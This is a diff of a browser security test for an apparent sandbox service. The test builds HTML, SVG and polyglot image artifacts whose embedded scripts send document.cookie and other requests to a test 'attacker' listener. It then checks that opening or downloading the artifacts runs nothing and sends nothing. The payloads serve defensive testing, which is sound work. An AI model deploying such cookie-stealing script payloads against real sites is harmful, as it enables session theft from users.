@@ -27,9 +27,10 @@ const listener = Effect.acquireRelease(
 
 /** Tells the attacker's server in every way that a document has, and marks the page that runs it. */
 const attackOf = (url: string) => {
-  const script = `fetch("${url}/fetch?"+document.cookie);new Image().src="${url}/script";top.attacked=1;location="${url}/location"`
+  const script = `fetch("${url}/fetch?"+document.cookie);new Image().src="${url}/script";` +
+    `top.attacked=1;location="${url}/location"`
   const html = `<!doctype html><html><body onload='${script}'><img src="${url}/img"><iframe src="/settings"></iframe>` +
-    `<link rel="stylesheet" href="${url}/css"><form action="/sandboxes/delete" method="post"></form><script>${script}</script></body></html>`
+    `<link rel="stylesheet" href="${url}/css"><script>${script}</script></body></html>`
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><image href="${url}/image"/><script>${script}</script></svg>`
   const [png, gif] = ["\x89PNG\r\n\x1a\n", "GIF89a/*"]
   return {
@@ -53,55 +54,54 @@ const leave = (files: Readonly<Record<string, string>>) =>
     .map(([name, content]) => `echo ${Buffer.from(content, "latin1").toString("base64")} | base64 -d > ${quoted(name)}`)
     .join("; ")
 
-/** Opens the address, which may be a download, and waits until nothing is loaded any more. */
+/** Opens the address. The file of a download; `null`: the browser shows it. */
 const open = async (page: Page, address: string) => {
   const download = page.waitForEvent("download", { timeout: 5_000 }).catch(() => null)
-  const went = await page.goto(address).then(() => true, (error: Error) => {
+  const isShown = await page.goto(address, { waitUntil: "domcontentloaded" }).then(() => true, (error: Error) => {
     assert.match(error.message, /Download is starting|ERR_ABORTED/u)
     return false
   })
-  if (went) {
-    await page.waitForLoadState("networkidle")
-    return null
-  }
-  return await (await download)?.path() ?? null
+  return isShown ? null : await (await download)?.path() ?? null
 }
 
 layer(Shop.layer(), { excludeTestServices: true })("artifacts in a browser", (it) => {
-  it.effect("run nothing, load nothing and send nothing, however they are opened, and the page that lists them is accessible", () =>
-    Effect.gen(function*() {
-      const { visit } = yield* Browser
-      const { create } = yield* Shop.api
-      const attacker = yield* listener
-      const files = attackOf(attacker.url)
-      const link = yield* linkFor()
-      yield* visit(async (page) => {
-        await signIn(page, link)
-        const id = await create(`[[shell cd "$SLIPWAY_ARTIFACTS" && ${leave(files)}]]`)
-        await Shop.loadsUntil(page, `/sandboxes/${id}`, "Checkpoint 1")
-        const untouched = async (where: string) => {
-          assert.deepStrictEqual(attacker.asked, [], where)
-          assert.isFalse(await page.evaluate(() => "attacked" in globalThis), where)
-        }
-        for (const address of [`/sandboxes/${id}?view=artifacts`, `/sandboxes/${id}/artifacts`]) {
-          await page.goto(address)
-          await page.locator(".artifacts img").first().waitFor({ state: "attached" })
-          await page.waitForLoadState("networkidle")
-          await untouched(address)
-          assert.strictEqual(await page.locator(".artifacts li").count(), Object.keys(files).length)
-          assert.deepStrictEqual(await faultsOf(page, address), [])
-        }
-        for (const [name, content] of Object.entries(files)) {
-          const query = new URLSearchParams({ name })
-          for (const place of ["artifacts", "artifacts/media"]) {
-            await open(page, `/sandboxes/${id}/${place}?${query}`)
-            await untouched(`${place} ${name}`)
+  it.effect(
+    "run nothing, load nothing and send nothing, however they are opened, and the page that lists them is accessible",
+    () =>
+      Effect.gen(function*() {
+        const { visit } = yield* Browser
+        const { create } = yield* Shop.api
+        const attacker = yield* listener
+        const files = attackOf(attacker.url)
+        const link = yield* linkFor()
+        yield* visit(async (page) => {
+          await signIn(page, link)
+          const id = await create(`[[shell cd "$SLIPWAY_ARTIFACTS" && ${leave(files)}]]`)
+          await Shop.loadsUntil(page, `/sandboxes/${id}`, "Checkpoint 1")
+          const untouched = async (where: string) => {
+            assert.deepStrictEqual(attacker.asked, [], where)
+            assert.isFalse(await page.evaluate(() => "attacked" in globalThis), where)
           }
-          const saved = await open(page, `/sandboxes/${id}/artifacts/download?${query}`)
-          assert.isTrue(saved !== null && existsSync(saved), name)
-          assert.strictEqual(readFileSync(saved ?? "", "latin1"), content)
-          await untouched(`download ${name}`)
-        }
-      }, { options: { acceptDownloads: true }, refused: [404], drops: true })
-    }), 15 * 60_000)
+          for (const address of [`/sandboxes/${id}?view=artifacts`, `/sandboxes/${id}/artifacts`]) {
+            await page.goto(address)
+            await page.locator(".artifacts img").first().waitFor({ state: "attached" })
+            await untouched(address)
+            assert.strictEqual(await page.locator(".artifacts li").count(), Object.keys(files).length)
+            assert.deepStrictEqual(await faultsOf(page, address), [])
+          }
+          for (const [name, content] of Object.entries(files)) {
+            const query = new URLSearchParams({ name })
+            for (const place of ["artifacts", "artifacts/media"]) {
+              await open(page, `/sandboxes/${id}/${place}?${query}`)
+              await untouched(`${place} ${name}`)
+            }
+            const saved = await open(page, `/sandboxes/${id}/artifacts/download?${query}`)
+            assert.isTrue(saved !== null && existsSync(saved), name)
+            assert.strictEqual(readFileSync(saved ?? "", "latin1"), content)
+            await untouched(`download ${name}`)
+          }
+        }, { options: { acceptDownloads: true }, refused: [404], drops: true })
+      }),
+    15 * 60_000
+  )
 })
